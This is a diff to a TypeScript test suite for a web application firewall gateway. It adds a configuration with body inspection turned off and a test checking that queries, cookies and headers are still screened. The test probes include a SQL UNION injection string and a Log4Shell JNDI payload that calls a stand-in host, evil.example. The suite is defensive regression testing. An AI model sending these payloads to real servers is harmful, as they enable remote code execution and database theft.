@@ -104,7 +104,7 @@ function benignUploads(): [string, Buffer][] {
 
 describe('WAF evasion, third round: bodies as the upstream reads them', () => {
   let upstream: TestUpstream;
-  const gws: Record<'strict' | 'relaxed' | 'extra' | 'open' | 'h2' | 'agent' | 'tuned', { port: number; close: () => Promise<void> }> = {} as never;
+  const gws: Record<'strict' | 'relaxed' | 'extra' | 'open' | 'h2' | 'agent' | 'tuned' | 'uninspected', { port: number; close: () => Promise<void> }> = {} as never;
   const tmp = mkdtempSync(join(tmpdir(), 'waf-evasion-3-'));
   let agent: ChildProcess | undefined;
 
@@ -115,6 +115,8 @@ describe('WAF evasion, third round: bodies as the upstream reads them', () => {
     gws.extra = await start(config(upstream.address, 'extra-rules "all"'));
     gws.open = await start(config(upstream.address, '').replace('failure-mode "closed"', 'failure-mode "open"'));
     gws.h2 = await start(config(upstream.address, '', { listener: 'protocol "h2"' }));
+    // request bodies not sent to the agents at all: the WAF still judges the head
+    gws.uninspected = await start(config(upstream.address, '', { top: 'waf { body-inspection { inspect-request-body #false } }' }));
     // the two recipes the docs give for what stays open: a rule exclusion for data: URIs in one
     // argument (the CRS's own false positive), and a form processor for octet-stream forms where
     // 920420 is relaxed for a Bottle application (the session 24 decision)
@@ -212,6 +214,26 @@ describe('WAF evasion, third round: bodies as the upstream reads them', () => {
       assert.equal(got.headers['x-q'], undefined, name);
       assert.doesNotMatch(JSON.stringify(got.headers), /UNION/, name);
     }
+  });
+
+  test('a body the agent is not shown (fail-open for its type or size, inspection off): the query, cookies and headers are still judged', async () => {
+    const q = `/x?q=${enc(union)}`;
+    const head: [string, Buffer][] = [
+      ['text/plain', req('POST', q, ['Content-Type: text/plain'], 'hello')],
+      ['image/png', req('POST', q, ['Content-Type: image/png'], '\x89PNG\r\n')],
+      ['no Content-Type', req('POST', q, [], 'hello')],
+      ['application/x-json', req('POST', q, ['Content-Type: application/x-json'], '{}')],
+      ['a cookie, text/plain', req('POST', '/x', ['Content-Type: text/plain', `Cookie: q=${enc(union)}`], 'hello')],
+      ['Log4Shell in a header, text/plain', req('POST', '/x', ['Content-Type: text/plain', 'X-Api-Version: ${jndi:ldap://evil.example/a}'], 'hello')],
+      ['a form over the inspection limit', req('POST', q, [FORM], `pad=${'a'.repeat(1024 * 1024)}`)],
+    ];
+    // forwarded (200) before: the agent waited for a body that never came, and the CRS blocks in phase 2
+    assert.deepEqual(await leakedProbes(gws.open.port, upstream, head), []);
+    assert.deepEqual(await leakedProbes(gws.uninspected.port, upstream, head.slice(0, 3)), []);
+    // the body itself is still not read: a form is forwarded as it came, inspection off
+    const seen = upstream.seen.length;
+    assert.equal(await status(gws.uninspected.port, req('POST', '/x', [FORM], `q=${enc(union)}`)), 200);
+    assert.equal(upstream.seen.length, seen + 1);
   });
 
   test('past the inspection limit (1 MiB): fail-closed refuses 413 before forwarding; fail-open forwards uninspected, as documented', async () => {
